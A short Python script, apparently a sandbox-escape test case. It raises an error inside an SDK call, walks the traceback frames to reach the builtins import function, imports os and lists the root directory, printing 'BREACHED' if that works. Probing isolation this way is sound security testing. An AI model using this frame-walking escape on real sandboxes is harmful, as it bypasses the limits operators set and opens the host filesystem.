# fence: rejected | walls: error
from client_sdk import graph
class Node(dict):
    def __getitem__(self, name):
        raise ValueError(name)
try:
    graph.paths(Node(id="a"), "b")
except ValueError as error:
    frame = error.__traceback__.tb_next.tb_frame
os = frame.f_globals["request_page"].__globals__["__builtins__"]["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
